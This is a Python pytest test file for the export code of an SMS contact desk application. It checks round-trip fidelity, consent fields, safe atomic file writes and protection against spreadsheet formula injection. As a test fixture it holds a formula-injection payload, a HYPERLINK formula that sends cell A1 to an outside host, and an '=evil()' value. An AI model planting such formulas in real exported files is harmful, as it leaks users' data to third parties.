"""Exports: whole files, no formulas, and nothing lost on the way back."""

from __future__ import annotations

import csv
import gc
import os
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from smsdesk.domain.errors import Refusal
from smsdesk.domain.message import Recipient
from smsdesk.domain.reasons import Reason
from smsdesk.domain.views import ContactRow, OutboundFilter, PhoneRow
from smsdesk.services import sheets
from smsdesk.services.cells import join_groups, split_groups
from smsdesk.services.desk import Desk
from smsdesk.services.tables.delimited import unshield
from smsdesk.services.tables.reader import read

EVIL = '=HYPERLINK("http://example.org/?"&A1,"click")'


def records(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as source:
        return list(csv.DictReader(source))


def fill(desk: Desk) -> None:
    desk.people.save(
        ContactRow(
            0,
            first_name=EVIL,
            last_name="Roe",
            organisation="@sum",
            notes="two\nlines; and, signs “”",
            language="en",
            time_zone="Europe/London",
            custom={"Dog": "Rex", "home phone": "none", "-minus": "+1", "'quoted": "'=x"},
            phones=(PhoneRow(0, "", "+447400123456"), PhoneRow(0, "", "+447400123457")),
            groups=("Choir; big", "Board"),
        )
    )
    desk.people.save(ContactRow(0, first_name="Bo", phones=(PhoneRow(0, "", "12345"),)))
    desk.people.set_consent("+447400123457", do_not_send="moved away", evidence="letter")
    desk.people.set_consent("+447400123456", white_list=True, evidence="form")


@pytest.mark.parametrize("name", ["book.csv", "book.tsv", "book.xlsx", "book.vcf"])
def test_what_is_exported_comes_back_unchanged(desk: Desk, tmp_path: Path, name: str) -> None:
    fill(desk)
    before = desk.store.contacts.page(desk.store.contacts.ids())[0 if EVIL < "Bo" else 1]
    assert desk.exporter.contacts(tmp_path / name).rows == 2
    desk.people.delete(desk.store.contacts.ids())
    table = desk.importer.read(tmp_path / name)
    result = desk.importer.run(table, desk.importer.suggest_mapping(table))
    # The short code is a service and no person to be imported.
    assert [(skip.number, skip.reason) for skip in result.skipped] == [
        ("12345", Reason.NUMBER_TOO_SHORT)
    ]
    after = desk.store.contacts.page(desk.store.contacts.ids())
    assert len(after) == 1
    back = after[0]
    for field in ("first_name", "last_name", "organisation", "notes", "language", "time_zone"):
        assert getattr(back, field) == getattr(before, field)
    assert dict(back.custom) == dict(before.custom)
    assert sorted(back.groups) == sorted(before.groups)
    assert [(p.e164, p.white_list, p.do_not_send) for p in back.phones] == [
        ("+447400123456", True, ""),
        ("+447400123457", False, "moved away"),
    ]


def test_consent_comes_into_another_book_with_its_people(desk: Desk, tmp_path: Path) -> None:
    fill(desk)
    desk.exporter.contacts(tmp_path / "book.csv")
    (row,) = [each for each in records(tmp_path / "book.csv") if each["last_name"] == "Roe"]
    assert row["phone"] == "+447400123456"
    assert row["white_list"] == "yes"
    assert (row["phone_2"], row["do_not_send_2"]) == ("+447400123457", "moved away")


def test_no_cell_is_a_formula(desk: Desk, tmp_path: Path) -> None:
    fill(desk)
    desk.compose.queue(EVIL, [Recipient("+12065550142")], merge=False)
    for name, export in (
        ("book", desk.exporter.contacts),
        ("outbox", desk.exporter.outbox),
    ):
        export(tmp_path / f"{name}.csv")
        for row in records(tmp_path / f"{name}.csv"):
            for cell in (*row, *row.values()):
                number = cell.startswith("+") and cell[1:].isdecimal()
                assert number or cell[:1] not in ("=", "+", "-", "@", "\t", "\r")
        export(tmp_path / f"{name}.xlsx")
        book = openpyxl.load_workbook(tmp_path / f"{name}.xlsx")
        kinds = {cell.data_type for page in book for row in page for cell in row}
        assert "f" not in kinds
        assert EVIL in {cell.value for page in book for row in page for cell in row}


@given(st.text(max_size=20))
def test_the_shield_can_be_taken_off_again(text: str) -> None:
    shielded = sheets.shielded(text)
    assert unshield(shielded) == text


@settings(max_examples=200)
@given(st.lists(st.text(st.characters(codec="utf-8", exclude_categories=["C"]), max_size=8)))
def test_groups_fit_into_a_cell_and_out_again(names: list[str]) -> None:
    wanted = tuple(name for each in names if (name := " ".join(each.split())))
    kept = tuple(name for name in wanted if not name.startswith("* "))
    assert split_groups(join_groups(kept)) == kept


def test_the_outbox_with_words_for_what_went_wrong(desk: Desk, tmp_path: Path) -> None:
    first = desk.compose.queue("One", [Recipient("+12065550142"), Recipient("+12065550143")])
    desk.compose.queue("Two", [Recipient("+12065550144")])
    assert first.batch is not None
    desk.steering.cancel([first.queued[0].id])
    path = tmp_path / "batch.csv"
    result = desk.exporter.outbox(
        path, narrowed=OutboundFilter(batch=first.batch), explain=lambda _: "in words"
    )
    assert result.rows == 2
    rows = {row["number"]: row for row in records(path)}
    assert set(rows) == {"+12065550142", "+12065550143"}
    cancelled = rows["+12065550142"]
    assert (cancelled["status"], cancelled["reason"], cancelled["explanation"]) == (
        "CANCELLED",
        "cancelled_by_person",
        "in words",
    )
    assert "T" in cancelled["queued_at"]


def test_the_trail_tells_every_step_of_every_message(desk: Desk, tmp_path: Path) -> None:
    first = desk.compose.queue("One", [Recipient("+12065550142"), Recipient("+12065550143")])
    second = desk.compose.queue("Two", [Recipient("+12065550142")])
    for queued in (second.queued[0], first.queued[0]):
        desk.steering.cancel([queued.id], actor="=evil()")
    desk.steering.send_again([first.queued[0].id])
    path, seen = tmp_path / "trail.csv", []
    result = desk.exporter.trail(
        path,
        name=lambda cause: f"{cause} in words",
        details=lambda event: f"{event.reason} in words",
        progress=lambda done, of_all: seen.append((done, of_all)),
    )
    rows = records(path)
    assert (result.rows, len(rows), seen[-1]) == (6, 6, (3, 3))
    ids = [str(queued.id) for queued in (*first.queued, *second.queued)]
    assert [(row["id"], row["step"], row["actor"]) for row in rows] == [
        (ids[0], "queued", "person"),
        (ids[0], "cancelled", "'=evil()"),
        (ids[0], "send_again", "person"),
        (ids[1], "queued", "person"),
        (ids[2], "queued", "person"),
        (ids[2], "cancelled", "'=evil()"),
    ]
    step = rows[1]
    assert (step["number"], step["batch"], step["status"]) == ("+12065550142", "1", "CANCELLED")
    assert (step["in_words"], step["explanation"]) == (
        "cancelled in words",
        "cancelled_by_person in words",
    )
    assert "T" in step["time"]
    of_one = desk.exporter.trail(path, narrowed=OutboundFilter(batch=second.batch))
    assert (of_one.rows, records(path)[1]["step"]) == (2, "cancelled")
    assert desk.exporter.trail(path, cancelled=lambda: True).cancelled
    assert len(records(path)) == 2, "the file of before stays"


def test_a_full_page_of_a_workbook_goes_on_on_the_next(tmp_path: Path) -> None:
    path = tmp_path / "long.xlsx"
    sheets.write(path, ["n"], ([n] for n in range(4)), rows_of_a_page=2)
    book = openpyxl.load_workbook(path)
    assert [[row[0].value for row in page] for page in book] == [["n", 0, 1], ["n", 2, 3]]


def test_an_empty_book_is_a_file_with_headings(desk: Desk, tmp_path: Path) -> None:
    assert desk.exporter.contacts(tmp_path / "book.csv").rows == 0
    assert desk.exporter.inbox(tmp_path / "inbox.xlsx").rows == 0
    assert read(tmp_path / "book.csv").headings[0] == "first_name"


def test_signs_that_no_file_may_hold_are_marked(tmp_path: Path) -> None:
    for name in ("a.csv", "a.xlsx"):
        sheets.write(tmp_path / name, ["text"], [["a\x00b\x1bc\ud800d"]])
        assert read(tmp_path / name).rows[0][1] == ("a�b�c�d",)


@pytest.mark.parametrize("name", ["book.pdf", "book", "book.xls"])
def test_only_known_kinds_are_written(desk: Desk, tmp_path: Path, name: str) -> None:
    with pytest.raises(Refusal) as caught:
        desk.exporter.contacts(tmp_path / name)
    assert caught.value.reason is Reason.FILE_KIND_UNKNOWN
    assert caught.value.trouble.hints == (".csv", ".tsv", ".xlsx", ".vcf")


def test_a_place_that_can_not_be_written(desk: Desk, tmp_path: Path) -> None:
    for path in (tmp_path / "gone" / "book.csv", tmp_path / "folder.csv"):
        (tmp_path / "folder.csv").mkdir(exist_ok=True)
        with pytest.raises(Refusal) as caught:
            desk.exporter.contacts(path)
        assert caught.value.reason is Reason.FILE_NOT_WRITTEN
        assert str(path) in caught.value.trouble.detail
    assert os.listdir(tmp_path / "folder.csv") == []
    assert not list(tmp_path.glob(".*part"))


def test_an_older_file_stays_until_the_new_one_is_whole(desk: Desk, tmp_path: Path) -> None:
    path = tmp_path / "book.csv"
    path.write_text("precious")
    fill(desk)
    result = desk.exporter.contacts(path, cancelled=lambda: True)
    assert result.cancelled
    assert path.read_text() == "precious"
    assert not list(tmp_path.glob(".*part"))
    desk.exporter.contacts(path)
    assert "Roe" in path.read_text(encoding="utf-8-sig")


def test_only_those_that_were_chosen(desk: Desk, tmp_path: Path) -> None:
    fill(desk)
    bo = next(
        row.id for row in desk.store.contacts.page(desk.store.contacts.ids()) if row.name == "Bo"
    )
    path = tmp_path / "bo.csv"
    assert desk.exporter.contacts(path, ids=[bo]).rows == 1
    (row,) = records(path)
    assert row["first_name"] == "Bo"
    assert "phone_2" not in row
    assert desk.exporter.contacts(path, ids=[bo], cancelled=lambda: True).cancelled


@pytest.mark.parametrize("name", ["book.csv", "book.tsv", "book.xlsx", "book.vcf"])
def test_what_is_stopped_leaves_nothing_and_touches_nothing(
    desk: Desk, tmp_path: Path, name: str
) -> None:
    fill(desk)
    folder = tmp_path / "out"
    folder.mkdir()
    (folder / name).write_text("older")
    asked = iter((False, *[True] * 99))
    result = desk.exporter.contacts(folder / name, cancelled=lambda: next(asked))
    assert result.cancelled
    gc.collect()
    assert [each.name for each in folder.iterdir()] == [name]
    assert (folder / name).read_text() == "older"
